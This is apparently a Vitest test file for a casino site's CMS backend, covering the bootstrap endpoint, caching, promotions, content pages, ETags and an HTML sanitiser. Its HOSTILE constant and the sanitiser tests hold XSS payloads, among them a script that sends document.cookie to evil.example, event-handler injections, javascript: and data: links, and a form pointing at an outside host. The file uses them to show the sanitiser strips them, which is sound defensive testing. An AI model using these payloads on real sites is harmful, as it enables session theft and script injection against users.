import { brotliDecompressSync, gunzipSync } from 'node:zlib';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ApiPath } from '@kasa/contract/api';
import type { ContentPageSummary } from '@kasa/contract/content';
import { JackpotBootstrapCards } from '@kasa/contract/jackpot';
import {
  ABOUT_US_PAGE_ID,
  Bootstrap,
  ContentPage,
  OpsContentPath,
  PromotionImageType,
  Promotion,
  SiteOptionKey,
  contentPagePath,
  type OpsPromotionRecord,
  type OpsSaved,
} from '@kasa/contract/content';
import type { AppEvents } from '../../lib/app-events.ts';
import { createEventBus } from '../../lib/event-bus.ts';
import { api, createTestApp, type TestApp } from '../../test/test-app.ts';
import { BONUS_DEFINITION_ID } from '../bonus/bonus.service.ts';
import { signInOperator } from '../ops/ops.test-support.ts';
import { JACKPOT_INSTANCES } from '../games/jackpot/jackpot.service.ts';
import { plainText, sanitizeContentHtml } from './content.sanitize.ts';
import { CONTENT_PAGES, PAGE_ID } from './content.pages.data.ts';
import { seedContent } from './content.seed.ts';
import { CONTENT_CACHE_TTL_MS, JACKPOTS_REFRESH_MS, createContentService } from './content.service.ts';

let t: TestApp;
let client: ReturnType<typeof api>;
/** A signed-in operator with the content role (docs/decisions/0500). */
let ops: { headers: { authorization: string } };

beforeAll(async () => {
  t = await createTestApp();
  client = api(t.app);
  ops = { headers: (await signInOperator(t.app, ['content'])).headers };
});
afterAll(async () => t.close());

const bootstrap = async (locale: 'tr' | 'en' = 'tr') => {
  const res = await client.get<Bootstrap>(ApiPath.cmsGrouped, { locale });
  expect(res.status).toBe(200);
  return res.body.data;
};
const media = (url: string) => t.app.inject({ method: 'GET', url });

const HOSTILE = [
  '<p onclick="steal()">Kazan!</p>',
  '<script>document.location="https://evil.example/?c="+document.cookie</script>',
  '<img src="x" onerror="alert(1)">',
  '<img src="https://cdn.example.com/a.png" onerror="alert(2)" alt="ok">',
  '<a href="javascript:alert(3)">tıkla</a>',
  '<a href=" JaVaScRiPt:alert(4)">tıkla</a>',
  '<a href="https://kasa.bet/promo" target="_self">site</a>',
  '<iframe src="https://evil.example"></iframe><svg onload="alert(5)"></svg>',
  '<p style="background:url(javascript:alert(6))">stil</p>',
].join('');

/** Nothing executable left: no script/iframe/svg, no event handler, no javascript: URL, no style. */
function expectHarmless(html: string) {
  expect(html).not.toMatch(/<script|<iframe|<svg|\son\w+=|javascript:|style=/i);
}

describe('GET cms/grouped (the bootstrap)', () => {
  it('answers every field of the start-up object, in the contract shape', async () => {
    const res = await client.get<Bootstrap>(ApiPath.cmsGrouped, { locale: 'tr' });
    expect(res.status).toBe(200);
    expect(res.body.success).toBe(true);
    const data = Bootstrap.strict().parse(res.body.data);

    expect(data.language).toEqual([
      { id: 1, name: 'Türkçe', locale: 'tr' },
      { id: 2, name: 'English', locale: 'en' },
    ]);
    expect(data.domainStatus).toEqual({ current: 'kasa.bet', next: 'kasa2.bet' });
    expect(data.trialBonusAmount).toBe(100);
    // Until the casino and jackpot modules decorate the app, their parts are empty lists, not a failed start-up.
    expect(Array.isArray(data.casinoCategoryList)).toBe(true);
    expect(Array.isArray(data.egtJackpotCards)).toBe(true);
    expect(Array.isArray(data.jackpotCards)).toBe(true);
    expect(Array.isArray(data.providerLogos)).toBe(true);

    // At least 5 home banners, each with the three responsive images (default, ≥1200, ≥992).
    const home = data.sliderList.filter((item) => item.slug === 'home');
    expect(home.length).toBeGreaterThanOrEqual(5);
    for (const item of data.sliderList) {
      expect(item.images).toHaveLength(3);
      expect(item.images[0]!.url).toMatch(/-default-tr\.svg$/);
      expect(item.images[1]!.url).toMatch(/-1200-tr\.svg$/);
      expect(item.images[2]!.url).toMatch(/-992-tr\.svg$/);
    }
    expect(new Set(data.sliderList.map((item) => item.slug))).toEqual(
      new Set(['home', 'casino', 'live-casino']),
    );

    expect(data.popup).not.toBeNull();
    expect(data.popup!.images).toHaveLength(3);
    expect(data.popup!.hash).toMatch(/^[0-9a-f]{16}$/);
    expect(data.popup!.link.url).toBe('/promotions');

    // Footer: categories with their pages; About Us is page 3.
    const items = data.categoryList.flatMap((category) => category.contentList);
    expect(items).toContainEqual({ id: ABOUT_US_PAGE_ID, title: 'Hakkımızda' });
    expect(items.map((item) => item.id).sort()).toEqual([1, 2, 3, 4, 5, 6, 7]);
  });

  it('serves inactive site options too, with status false (the client keeps only active ones)', async () => {
    const { siteOption } = await bootstrap();
    const option = (key: string) => siteOption.find((o) => o.key === key);
    expect(option(SiteOptionKey.chatSiteId)).toMatchObject({ status: false });
    expect(option(SiteOptionKey.chatDivId)).toMatchObject({ status: false });
    expect(option(SiteOptionKey.snowfall)).toMatchObject({ status: false });
    expect(option(SiteOptionKey.liveTv)).toMatchObject({ key: 'liveTv', status: true });
    // Every option the spec uses is present.
    for (const key of Object.values(SiteOptionKey)) expect(option(key), key).toBeDefined();
  });

  it('gives translations and texts in the request language', async () => {
    const [tr, en] = await Promise.all([bootstrap('tr'), bootstrap('en')]);
    const value = (data: Bootstrap, key: string) => data.translationList.find((x) => x.key === key)?.value;
    expect(value(tr, 'home.heroTitle')).toBe('Canlı masalar, binlerce slot ve spor bahisleri Kasa’da');
    expect(value(en, 'home.heroTitle')).toBe('Live tables, thousands of slots and sports betting at Kasa');
    expect(tr.translationList.map((x) => x.key)).toEqual(en.translationList.map((x) => x.key));
    expect(en.sliderList[0]!.images[0]!.url).toMatch(/-en\.svg$/);
    expect(en.categoryList.flatMap((c) => c.contentList)).toContainEqual({ id: 3, title: 'About Us' });
    expect(en.popup!.title).not.toBe(tr.popup!.title);
    // The popup's hash is about content, not language: shown once whichever language the player switches to.
    expect(en.popup!.hash).toBe(tr.popup!.hash);
  });

  it('serves the artwork every bootstrap image points at', async () => {
    const data = await bootstrap('en');
    const urls = [...data.sliderList.flatMap((i) => i.images), ...data.popup!.images].map((i) => i.url);
    for (const url of urls) {
      const res = await media(url);
      expect(res.statusCode, url).toBe(200);
      expect(res.headers['content-type']).toMatch(/^image\/svg\+xml/);
      expect(res.body).toMatch(/^<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg"/);
    }
    expect((await media('/media/banners/constructor-default-tr.svg')).statusCode).toBe(404);
    expect((await media('/media/popup/trial-bonus-default-tr.svg')).statusCode).toBe(404);
    const unknown = await media('/media/banners/nope-default-tr.svg');
    expect(unknown.statusCode).toBe(404);
    expect(unknown.json()).toMatchObject({ success: false, data: null });
  });
});

describe('caching and invalidation', () => {
  it('keeps the built bootstrap until an operator change, then rebuilds it', async () => {
    await bootstrap('tr');
    // A change behind the module's back is not seen: the cached copy is served.
    await t.db
      .updateTable('site_options')
      .set({ value: 'kasa3.bet' })
      .where('key', '=', 'domain-next')
      .execute();
    expect((await bootstrap('tr')).domainStatus.next).toBe('kasa2.bet');

    // An operator save invalidates the cache: the next bootstrap has both changes.
    const saved = await client.post(
      OpsContentPath.siteOptions,
      { key: SiteOptionKey.domainCurrent, value: 'kasa2.bet', status: true },
      ops,
    );
    expect(saved.status).toBe(200);
    expect((await bootstrap('tr')).domainStatus).toEqual({ current: 'kasa2.bet', next: 'kasa3.bet' });
    // Put them back for the other tests.
    await client.post(
      OpsContentPath.siteOptions,
      { key: 'domain-current', value: 'kasa.bet', status: true },
      ops,
    );
    await client.post(
      OpsContentPath.siteOptions,
      { key: 'domain-next', value: 'kasa2.bet', status: true },
      ops,
    );
  });

  it('activating the chat options through the operator endpoint shows in the next bootstrap', async () => {
    await bootstrap('en');
    await client.post(
      OpsContentPath.siteOptions,
      { key: 'chat-site-id', value: 'site-1', status: true },
      ops,
    );
    const option = (await bootstrap('en')).siteOption.find((o) => o.key === 'chat-site-id');
    expect(option).toEqual({ key: 'chat-site-id', value: 'site-1', status: true });
    await client.post(
      OpsContentPath.siteOptions,
      { key: 'chat-site-id', value: 'site-1', status: false },
      ops,
    );
    expect((await bootstrap('en')).siteOption.find((o) => o.key === 'chat-site-id')?.status).toBe(false);
  });

  it('a page saved by the operator changes the footer, the pages list and the page at once', async () => {
    const before = await bootstrap('en');
    expect(before.categoryList.flatMap((c) => c.contentList)).toContainEqual({ id: 7, title: 'Contact' });
    await client.get(ApiPath.contentPages, { locale: 'en' }); // cached too

    const res = await client.post<OpsSaved>(
      OpsContentPath.pages,
      {
        id: 7,
        categoryId: 1,
        titleTr: 'Bize Ulaşın',
        titleEn: 'Contact Us',
        bodyTr: '<p>7/24</p>',
        bodyEn: '<p>24/7</p>',
        sortOrder: 2,
      },
      ops,
    );
    expect(res.status).toBe(200);
    expect(res.body.message).toBe('İçerik kaydedildi.');

    const after = await bootstrap('en');
    expect(after.categoryList.flatMap((c) => c.contentList)).toContainEqual({ id: 7, title: 'Contact Us' });
    const pages = await client.get<ContentPageSummary[]>(ApiPath.contentPages, { locale: 'en' });
    expect(pages.body.data.find((p) => p.id === 7)?.title).toBe('Contact Us');
    const page = await client.get<ContentPage>(contentPagePath(7), { locale: 'en' });
    expect(page.body.data).toMatchObject({ title: 'Contact Us', body: '<p>24/7</p>' });
  });

  it('expires on its own after the TTL, and at the next banner validity change', async () => {
    await bootstrap('tr');
    await t.db
      .updateTable('site_options')
      .set({ value: '150' })
      .where('key', '=', 'trial-bonus-amount')
      .execute();
    expect((await bootstrap('tr')).trialBonusAmount).toBe(100);
    t.clock.advance(CONTENT_CACHE_TTL_MS + 1);
    expect((await bootstrap('tr')).trialBonusAmount).toBe(150);
    await t.db
      .updateTable('site_options')
      .set({ value: '100' })
      .where('key', '=', 'trial-bonus-amount')
      .execute();

    // A banner scheduled to start in 10 s appears once that moment passes, without any invalidation.
    const now = t.clock.now();
    await t.db
      .insertInto('content_banners')
      .values({
        id: 100,
        code: 'scheduled',
        slug: 'home',
        url: '/promotions',
        target: '_self',
        image_default: '/media/banners/trial-bonus-default-{locale}.svg',
        image_1200: '/media/banners/trial-bonus-1200-{locale}.svg',
        image_992: '/media/banners/trial-bonus-992-{locale}.svg',
        title_tr: 'Planlı',
        title_en: 'Scheduled',
        text_tr: '',
        text_en: '',
        is_active: true,
        sort_order: 99,
        valid_from: new Date(now.getTime() + 10_000),
        valid_to: new Date(now.getTime() + 20_000),
        updated_at: now,
      })
      .execute();
    t.app.content.invalidate(); // as an operator save would
    const has = async () => (await bootstrap('en')).sliderList.some((item) => item.id === 100);
    expect(await has()).toBe(false);
    t.clock.advance(10_001);
    expect(await has()).toBe(true);
    t.clock.advance(10_000);
    expect(await has()).toBe(false);
  });
});

describe('promotions (GET cms/promotions) and sanitised HTML', () => {
  it('lists the six seeded promotions with card and detail images, terms and their bonus', async () => {
    const res = await client.get<Promotion[]>(ApiPath.promotions, { locale: 'en' });
    expect(res.status).toBe(200);
    const list = res.body.data.map((p) => Promotion.parse(p));
    expect(list.slice(0, 6).map((p) => p.title)).toEqual([
      'Welcome: ₺100 Trial Bonus',
      '100% First Deposit Bonus (up to ₺1,000)',
      '10% Weekly Cashback',
      'Aviator Tournament: ₺50,000 Prize Pool',
      'Slots Jackpot Week',
      'Accumulator Boost: up to 50% Extra Winnings',
    ]);
    expect(list.slice(0, 3).map((p) => p.bonusDefinitionId)).toEqual([
      BONUS_DEFINITION_ID.trial,
      BONUS_DEFINITION_ID.firstDeposit,
      BONUS_DEFINITION_ID.cashback,
    ]);
    for (const promotion of list.slice(0, 6)) {
      expect(promotion.images.map((i) => i.type)).toEqual([
        PromotionImageType.Card,
        PromotionImageType.Detail,
      ]);
      expect(promotion.terms).toMatch(/^<ul><li>/);
      expectHarmless(promotion.description);
      expect((await media(promotion.images[1]!.url)).statusCode).toBe(200);
    }
    const tr = await client.get<Promotion[]>(ApiPath.promotions, { locale: 'tr' });
    expect(tr.body.data[0]!.title).toBe('Hoş Geldin: ₺100 Deneme Bonusu');
  });

  it('stores and serves a promotion with a script, an onerror and javascript: links harmless', async () => {
    const res = await client.post<OpsSaved>(
      OpsContentPath.promotions,
      {
        category: 'casino',
        titleTr: 'Tehlikeli',
        titleEn: 'Hostile',
        descriptionTr: HOSTILE,
        descriptionEn: HOSTILE,
        termsTr: '<ul><li onmouseover="x()">Şart</li></ul><script>alert(7)</script>',
        termsEn: '<ul><li>Term</li></ul>',
        images: [{ type: 1, url: '/media/promotions/trial-bonus-1-{locale}.svg' }],
      },
      ops,
    );
    expect(res.status).toBe(200);
    const { id, stored } = res.body.data;
    expect(id).toBe(7);

    // Stored harmless: what the database holds has nothing executable left, and the safe parts are kept.
    const row = await t.db
      .selectFrom('content_promotions')
      .selectAll()
      .where('id', '=', id)
      .executeTakeFirstOrThrow();
    for (const html of [row.description_tr, row.description_en, row.terms_tr, row.terms_en])
      expectHarmless(html);
    expect(row.description_en).toContain('<p>Kazan!</p>');
    expect(row.description_en).toContain('<img src="https://cdn.example.com/a.png" alt="ok" />');
    expect(row.description_en).not.toContain('src="x"');
    expect(row.description_en).toContain(
      '<a href="https://kasa.bet/promo" target="_blank" rel="noopener noreferrer nofollow">site</a>',
    );
    expect(row.description_en).toContain('<a>tıkla</a>');
    expect(row.terms_tr).toBe('<ul><li>Şart</li></ul>');
    expect(stored.description_en).toBe(row.description_en);
    expect(row.summary_en).toBe(plainText(row.description_en).slice(0, 160));

    // Served harmless, and the list was invalidated by the save.
    const list = await client.get<Promotion[]>(ApiPath.promotions, { locale: 'en' });
    const served = list.body.data.find((p) => p.id === id);
    expect(served).toBeDefined();
    expectHarmless(served!.description);
    expectHarmless(served!.terms);
  });

  it('an update replaces the promotion and a deactivated one leaves the list', async () => {
    const res = await client.post(
      OpsContentPath.promotions,
      {
        id: 7,
        category: 'bonus',
        titleTr: 'Kapalı',
        titleEn: 'Closed',
        descriptionTr: '<p>a</p>',
        descriptionEn: '<p>b</p>',
        isActive: false,
      },
      ops,
    );
    expect(res.status).toBe(200);
    const list = await client.get<Promotion[]>(ApiPath.promotions, { locale: 'en' });
    expect(list.body.data.map((p) => p.id)).toEqual([1, 2, 3, 4, 5, 6]);

    const unknown = await client.post(
      OpsContentPath.promotions,
      { id: 999, category: 'bonus', titleTr: 'x', titleEn: 'x', descriptionTr: '', descriptionEn: '' },
      { ...ops, locale: 'en' },
    );
    expect(unknown.status).toBe(404);
    expect(unknown.body).toEqual({ success: false, message: 'Promotion not found.', data: null });

    // The back office's list keeps the inactive one, in both languages, for the editor.
    const all = await client.get<OpsPromotionRecord[]>(OpsContentPath.promotions, ops);
    expect(all.status).toBe(200);
    expect(all.body.data.map((p) => p.id).sort((a, b) => a - b)).toEqual([1, 2, 3, 4, 5, 6, 7]);
    expect(all.body.data.find((p) => p.id === 7)).toMatchObject({
      titleTr: 'Kapalı',
      titleEn: 'Closed',
      descriptionEn: '<p>b</p>',
      isActive: false,
    });
  });

  it('refuses promotion images and links that are not https, /media or a site path', async () => {
    const base = {
      category: 'casino',
      titleTr: 'x',
      titleEn: 'x',
      descriptionTr: '<p>x</p>',
      descriptionEn: '<p>x</p>',
    };
    for (const body of [
      { ...base, images: [{ type: 1, url: 'javascript:alert(1)' }] },
      { ...base, images: [{ type: 2, url: 'http://insecure.example/a.png' }] },
      { ...base, ctaUrl: 'javascript:alert(1)' },
      { ...base, ctaUrl: '//evil.example' },
    ]) {
      const res = await client.post(OpsContentPath.promotions, body, ops);
      expect(res.status, JSON.stringify(body)).toBe(400);
    }
    const list = await client.get<Promotion[]>(ApiPath.promotions);
    expect(list.body.data.every((p) => p.title !== 'x')).toBe(true);
  });

  it('operator endpoints need an operator session', async () => {
    const body = { key: 'snowfall', value: '1', status: true };
    expect((await client.post(OpsContentPath.siteOptions, body)).status).toBe(401);
    expect(
      (
        await client.post(OpsContentPath.siteOptions, body, {
          headers: { authorization: 'Bearer wrong-token-123456' },
        })
      ).status,
    ).toBe(401);
    expect((await bootstrap()).siteOption.find((o) => o.key === 'snowfall')?.status).toBe(false);
  });

  it('a page body is sanitised on save too; an unknown category is refused', async () => {
    const res = await client.post<OpsSaved>(
      OpsContentPath.pages,
      { categoryId: 3, titleTr: 'SSS', titleEn: 'FAQ', bodyTr: HOSTILE, bodyEn: HOSTILE, isActive: false },
      ops,
    );
    expect(res.status).toBe(200);
    expectHarmless(res.body.data.stored.body_tr!);
    const row = await t.db
      .selectFrom('content_pages')
      .selectAll()
      .where('id', '=', res.body.data.id)
      .executeTakeFirstOrThrow();
    expectHarmless(row.body_en);
    // Inactive: not listed, not served.
    expect((await client.get(contentPagePath(res.body.data.id))).status).toBe(404);

    const refused = await client.post(
      OpsContentPath.pages,
      { categoryId: 42, titleTr: 'x', titleEn: 'x', bodyTr: '', bodyEn: '' },
      { ...ops, locale: 'en' },
    );
    expect(refused.status).toBe(400);
    expect(refused.body.message).toBe('Content category not found.');
  });
});

describe('content pages (GET cms/pages, cms/page)', () => {
  it('lists the active pages with titles in the request language', async () => {
    const res = await client.get<ContentPageSummary[]>(ApiPath.contentPages, { locale: 'tr' });
    expect(res.status).toBe(200);
    const titles = Object.fromEntries(res.body.data.map((p) => [p.id, p.title]));
    expect(titles).toMatchObject({
      1: 'Şartlar ve Koşullar',
      2: 'Gizlilik Politikası',
      3: 'Hakkımızda',
      4: 'Sorumlu Oyun',
      5: 'Bonus Kuralları',
      6: 'Ödeme Yöntemleri',
    });
    expect(res.body.data.every((p) => !('body' in p))).toBe(true);
  });

  it('serves one page by ?id= and by path, with a substantial sanitised body', async () => {
    const byQuery = await client.get<ContentPage>(contentPagePath(ABOUT_US_PAGE_ID), { locale: 'en' });
    expect(byQuery.status).toBe(200);
    const page = ContentPage.parse(byQuery.body.data);
    expect(page).toMatchObject({ id: 3, title: 'About Us', categoryId: 1 });
    expect(plainText(page.body).length).toBeGreaterThan(800);
    expect(page.body).toBe(sanitizeContentHtml(page.body)); // already in its stored, sanitised form
    const byPath = await client.get<ContentPage>(`${ApiPath.contentPage}/3`, { locale: 'tr' });
    expect(byPath.body.data.title).toBe('Hakkımızda');
    for (const id of [1, 2, 4, 5, 6]) {
      const other = await client.get<ContentPage>(contentPagePath(id), { locale: 'tr' });
      expect(plainText(other.body.data.body).length, `page ${id}`).toBeGreaterThan(800);
    }
  });

  it('a database seeded before the fix says scrypt on the privacy page after the next start; own wording stays', async () => {
    const seeded = CONTENT_PAGES.find((page) => page.id === PAGE_ID.privacy)!;
    const earlierTr = sanitizeContentHtml(seeded.body_tr).replace('(scrypt)', '(bcrypt)');
    const operatorsEn = '<p>We keep passwords hashed (we moved away from bcrypt).</p>';
    expect(earlierTr).toContain('(bcrypt)');
    await t.db
      .updateTable('content_pages')
      .set({ body_tr: earlierTr, body_en: operatorsEn })
      .where('id', '=', PAGE_ID.privacy)
      .execute();

    await seedContent(t.db, t.clock.now()); // what every start runs
    await seedContent(t.db, t.clock.now()); // and again: nothing more changes
    t.app.content.invalidate();

    const tr = await client.get<ContentPage>(contentPagePath(PAGE_ID.privacy), { locale: 'tr' });
    expect(tr.body.data.body).toContain('geri döndürülemez biçimde (scrypt) saklanır');
    expect(tr.body.data.body).not.toContain('bcrypt');
    expect(tr.body.data.body).toBe(sanitizeContentHtml(seeded.body_tr));
    const en = await client.get<ContentPage>(contentPagePath(PAGE_ID.privacy), { locale: 'en' });
    expect(en.body.data.body).toBe(operatorsEn);

    await t.db
      .updateTable('content_pages')
      .set({ body_en: sanitizeContentHtml(seeded.body_en) })
      .where('id', '=', PAGE_ID.privacy)
      .execute();
    t.app.content.invalidate();
  });

  it('the seeded privacy page names scrypt, the hash the passwords are stored with', async () => {
    for (const locale of ['tr', 'en'] as const) {
      const page = await client.get<ContentPage>(contentPagePath(PAGE_ID.privacy), { locale });
      expect(page.body.data.body).toContain('(scrypt)');
      expect(page.body.data.body).not.toContain('bcrypt');
    }
  });

  it('answers an unknown page with the 404 envelope in the request language, a malformed id with 400', async () => {
    const tr = await client.get(contentPagePath(999), { locale: 'tr' });
    expect(tr.status).toBe(404);
    expect(tr.body).toEqual({ success: false, message: 'Aradığınız sayfa bulunamadı.', data: null });
    const en = await client.get(`${ApiPath.contentPage}/999`, { locale: 'en' });
    expect(en.body.message).toBe('The page you are looking for was not found.');
    expect((await client.get(`${ApiPath.contentPage}?id=abc`)).status).toBe(400);
  });
});

describe('bootstrap sources (casino catalog, jackpots)', () => {
  it('in the app, takes the casino module categories and logos and the jackpot module cards', async () => {
    const data = await bootstrap('en');
    const app = t.app as unknown as {
      casino?: { categoryList(locale: 'en'): Promise<unknown>; providerLogos(): unknown };
      jackpots?: { bootstrapCards(): Promise<{ egtJackpotCards: unknown; jackpotCards: unknown }> };
    };
    if (t.app.hasDecorator('casino') && app.casino) {
      expect(data.casinoCategoryList).toEqual(await app.casino.categoryList('en'));
      expect(data.providerLogos).toEqual(await app.casino.providerLogos());
    }
    if (t.app.hasDecorator('jackpots') && app.jackpots) {
      const cards = await app.jackpots.bootstrapCards();
      expect(data.egtJackpotCards).toEqual(cards.egtJackpotCards);
      expect(data.jackpotCards).toEqual(cards.jackpotCards);
    }
  });

  it('takes casino categories, logos and jackpot cards at build time (cached); cms/jackpots follows the cards; a failing source is left out', async () => {
    let jackpotLevel = 1000;
    let casinoCalls = 0;
    let casinoFails = true;
    const service = createContentService({
      db: t.db,
      clock: t.clock,
      log: t.app.log,
      settings: t.app.services.settings,
      events: createEventBus<AppEvents>({ log: t.app.log }),
      sources: () => ({
        casinoCategories: async (locale) => {
          casinoCalls += 1;
          if (casinoFails) throw new Error('catalog down');
          return [
            {
              id: 1,
              name: locale === 'en' ? 'Slots' : 'Slotlar',
              slugList: ['slot'],
              imageUrl: null,
              games: [],
            },
          ];
        },
        providerLogos: () => [
          {
            name: 'Kasa Originals',
            url: '/media/providers/kasa.svg',
            lobbyPath: '/casino/slot?provider=kasa',
          },
        ],
        jackpots: () => ({
          egtJackpotCards: [{ instanceName: 'Clover Chance', levelStats: [1, 2, 3, 4] }],
          jackpotCards: [{ currentLevelI: jackpotLevel }],
        }),
      }),
    });

    const failed = await service.bootstrap('en');
    expect(failed.casinoCategoryList).toEqual([]);
    expect(failed.sliderList.length).toBeGreaterThan(0);
    casinoFails = false;
    const first = await service.bootstrap('en'); // the failed build was not cached
    expect(first.casinoCategoryList).toEqual([
      { id: 1, name: 'Slots', slugList: ['slot'], imageUrl: null, games: [] },
    ]);
    expect(first.providerLogos).toEqual([
      { name: 'Kasa Originals', url: '/media/providers/kasa.svg', lobbyPath: '/casino/slot?provider=kasa' },
    ]);
    expect(first.jackpotCards).toEqual([{ currentLevelI: 1000 }]);

    expect((await service.jackpotsAnswer('en')).data.jackpotCards).toEqual([{ currentLevelI: 1000 }]);

    jackpotLevel = 1250;
    const second = await service.bootstrap('en');
    expect(casinoCalls).toBe(2); // served from the cache
    expect(second.jackpotCards).toEqual([{ currentLevelI: 1000 }]); // a bet does not rebuild the bootstrap
    // The jackpot answer is rebuilt at most every JACKPOTS_REFRESH_MS.
    expect((await service.jackpotsAnswer('en')).data.jackpotCards).toEqual([{ currentLevelI: 1000 }]);
    t.clock.advance(JACKPOTS_REFRESH_MS);
    expect((await service.jackpotsAnswer('en')).data.jackpotCards).toEqual([{ currentLevelI: 1250 }]);
    expect((await service.bootstrap('tr')).casinoCategoryList[0]!.name).toBe('Slotlar');
  });
});

describe('GET cms/grouped as bytes: ETag, 304, compression (docs/decisions/0150)', () => {
  const grouped = (headers: Record<string, string> = {}, locale: 'tr' | 'en' = 'tr') =>
    t.app.inject({
      method: 'GET',
      url: `/api/${ApiPath.cmsGrouped}`,
      headers: { 'x-locale': locale, ...headers },
    });

  it('answers a strong ETag with no-cache, and 304 without a body when If-None-Match names it', async () => {
    const first = await grouped();
    expect(first.statusCode).toBe(200);
    const etag = String(first.headers.etag);
    expect(etag).toMatch(/^"[\w-]{22}"$/);
    expect(first.headers['cache-control']).toBe('no-cache');
    expect(String(first.headers.vary)).toContain('x-locale');
    expect(first.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(Bootstrap.parse(first.json().data)).toBeTruthy();

    const again = await grouped({ 'if-none-match': etag });
    expect(again.statusCode).toBe(304);
    expect(again.body).toBe('');
    expect(again.headers.etag).toBe(etag);
    // A proxy may weaken it; a list names it too.
    expect((await grouped({ 'if-none-match': `"other", W/${etag}` })).statusCode).toBe(304);
    // The same bytes again: the ETag is of the content, not of the request.
    expect((await grouped()).headers.etag).toBe(etag);
    // The other language is another answer.
    const en = await grouped({ 'if-none-match': etag }, 'en');
    expect(en.statusCode).toBe(200);
    expect(en.headers.etag).not.toBe(etag);
  });

  it('sends the prepared brotli or gzip bytes the caller accepts, equal to the plain answer', async () => {
    const plain = await grouped();
    const br = await grouped({ 'accept-encoding': 'gzip, deflate, br' });
    expect(br.headers['content-encoding']).toBe('br');
    expect(brotliDecompressSync(br.rawPayload).toString('utf8')).toBe(plain.body);
    expect(br.rawPayload.length).toBeLessThan(plain.rawPayload.length / 3);
    const gz = await grouped({ 'accept-encoding': 'gzip' });
    expect(gz.headers['content-encoding']).toBe('gzip');
    expect(gunzipSync(gz.rawPayload).toString('utf8')).toBe(plain.body);
    const refused = await grouped({ 'accept-encoding': 'br;q=0, gzip;q=0' });
    expect(refused.headers['content-encoding']).toBeUndefined();
    expect(refused.body).toBe(plain.body);
  });

  it('an operator save makes a new ETag: the old one gets the new content with 200', async () => {
    const before = await grouped();
    const etag = String(before.headers.etag);
    const saved = await client.post(
      OpsContentPath.siteOptions,
      { key: SiteOptionKey.telegram, value: 'https://t.me/kasa_etag_test', status: true },
      ops,
    );
    expect(saved.status).toBe(200);
    const after = await grouped({ 'if-none-match': etag });
    expect(after.statusCode).toBe(200);
    expect(after.headers.etag).not.toBe(etag);
    const data = Bootstrap.parse(after.json().data);
    expect(data.siteOption.find((o) => o.key === SiteOptionKey.telegram)?.value).toBe(
      'https://t.me/kasa_etag_test',
    );
    expect((await grouped({ 'if-none-match': String(after.headers.etag) })).statusCode).toBe(304);
  });

  it('a jackpot that grows shows in cms/jackpots within JACKPOTS_REFRESH_MS; the bootstrap keeps its ETag', async () => {
    const jackpots = async () => {
      const res = await t.app.inject({
        method: 'GET',
        url: `/api/${ApiPath.cmsJackpots}`,
        headers: { 'x-locale': 'en' },
      });
      expect(res.statusCode).toBe(200);
      return { etag: String(res.headers.etag), data: JackpotBootstrapCards.parse(res.json().data) };
    };
    const top = (data: JackpotBootstrapCards) =>
      data.egtJackpotCards[0]!.levelStats.find((stat) => stat.level === 4)!.value;
    const before = await jackpots();
    expect(before.data.egtJackpotCards.length).toBeGreaterThan(0);
    expect(before.data.egtJackpotCards.every((card) => card.levelStats.length === 4)).toBe(true);
    const bootstrapEtag = String((await grouped({}, 'en')).headers.etag);

    // What slots bets do to a level's pool (jackpot.repository addToPool): +250 lira on the first EGT card's top level.
    const card = before.data.egtJackpotCards[0]!;
    const instance = JACKPOT_INSTANCES.find((i) => i.name === card.instanceName)!;
    const topLevel = await t.db
      .selectFrom('jackpot_levels')
      .select('id')
      .where('instance_code', '=', instance.code)
      .where('level', '=', 4)
      .executeTakeFirstOrThrow();
    await t.db
      .updateTable('jackpot_pools')
      .set((eb) => ({ amount: sql`${eb.ref('amount')} + 25000` }))
      .where('level_id', '=', topLevel.id)
      .where('shard', '=', 0)
      .execute();

    expect(top((await jackpots()).data)).toBe(top(before.data)); // at most JACKPOTS_REFRESH_MS old
    t.clock.advance(JACKPOTS_REFRESH_MS);
    const after = await jackpots();
    expect(top(after.data)).toBe(top(before.data) + 250);
    expect(after.etag).not.toBe(before.etag);
    // The bootstrap was not rebuilt for it: a page revalidating it still gets 304.
    expect((await grouped({ 'if-none-match': bootstrapEtag }, 'en')).statusCode).toBe(304);
  });
});

describe('sanitiser allow-list', () => {
  it.each([
    ['<h1>T</h1><h2>S</h2>', 'T<h2>S</h2>'],
    ['<a href="//evil.example/x">x</a>', '<a>x</a>'],
    ['<a href="/pages/5" target="_blank">x</a>', '<a href="/pages/5">x</a>'],
    [
      '<a href="mailto:destek@kasa.bet">m</a>',
      '<a href="mailto:destek@kasa.bet" target="_blank" rel="noopener noreferrer nofollow">m</a>',
    ],
    ['<a href="data:text/html;base64,PHNjcmlwdD4=">d</a>', '<a>d</a>'],
    ['<img src="http://insecure.example/a.png">', ''],
    [
      '<img src="/media/banners/trial-bonus-default-tr.svg" alt="b">',
      '<img src="/media/banners/trial-bonus-default-tr.svg" alt="b" />',
    ],
    ['<img src="data:image/png;base64,AAAA">', ''],
    [
      '<table><tr><td colspan="2" onclick="x">c</td></tr></table>',
      '<table><tr><td colspan="2">c</td></tr></table>',
    ],
    ['<form action="https://evil.example"><input name="p"></form><p>ok</p>', '<p>ok</p>'],
    ['<style>body{display:none}</style><p>ok</p>', '<p>ok</p>'],
  ])('%s → %s', (input, expected) => {
    expect(sanitizeContentHtml(input)).toBe(expected);
  });
});
